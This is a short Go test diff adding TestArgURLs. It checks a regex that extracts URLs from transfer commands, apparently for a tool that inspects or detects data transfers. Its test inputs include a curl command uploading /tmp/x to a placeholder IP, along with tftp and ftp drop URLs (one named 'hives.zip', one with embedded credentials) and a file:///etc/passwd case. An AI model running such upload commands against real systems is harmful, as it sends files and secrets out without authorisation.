@@ -29,3 +29,23 @@ func TestDroppedPath(t *testing.T) {
 		}
 	}
 }
+
+// TestArgURLs: the URLs a transfer's command names, scheme first, without
+// the shell's quoting around them.
+func TestArgURLs(t *testing.T) {
+	for _, c := range []struct {
+		arg  string
+		want []string
+	}{
+		{"tftp://127.0.0.1:6969/hives.zip", []string{"tftp://127.0.0.1:6969/hives.zip"}},
+		{"curl -s -T /tmp/x 'https://198.51.100.7/u?a=1'; echo", []string{"https://198.51.100.7/u?a=1"}},
+		{"ftp://drop:pw@127.0.0.1:2121/a.tgz", []string{"ftp://drop:pw@127.0.0.1:2121/a.tgz"}},
+		{"/var/tmp/file", nil},
+		{"file:///etc/passwd", nil},
+	} {
+		got := argURLRE.FindAllString(c.arg, 4)
+		if len(got) != len(c.want) || len(got) > 0 && got[0] != c.want[0] {
+			t.Errorf("URLs of %q = %q, want %q", c.arg, got, c.want)
+		}
+	}
+}
